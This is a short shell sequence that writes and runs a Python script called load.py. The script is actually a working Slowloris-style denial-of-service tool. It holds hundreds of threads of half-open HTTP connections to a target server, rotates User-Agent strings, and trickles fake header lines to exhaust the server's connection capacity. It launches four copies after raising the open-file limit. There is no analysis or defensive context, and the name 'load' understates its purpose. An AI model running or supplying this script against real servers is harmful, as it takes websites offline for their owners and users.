mkdir -p /tmp/lt && cd /tmp/lt
cat > load.py <<'EOF'
import random
import socket
import threading

TARGET = ("198.51.100.80", 80)
AGENTS = ["Mozilla/5.0 (X11)", "curl/8.0", "Opera/9.8"]


def hold():
    socks = []
    while True:
        try:
            s = socket.create_connection(TARGET, 4)
            s.send(b"GET /?%d HTTP/1.1\r\nHost: x\r\nUser-Agent: %s\r\n" % (random.getrandbits(30), random.choice(AGENTS).encode()))
            socks.append(s)
        except OSError:
            pass
        for s in list(socks):
            try:
                s.send(b"X-a: %d\r\n" % random.randrange(5000))
            except OSError:
                socks.remove(s)


for _ in range(200):
    threading.Thread(target=hold).start()
EOF
ulimit -n 65535
for i in 1 2 3 4; do python3 load.py & done
wait
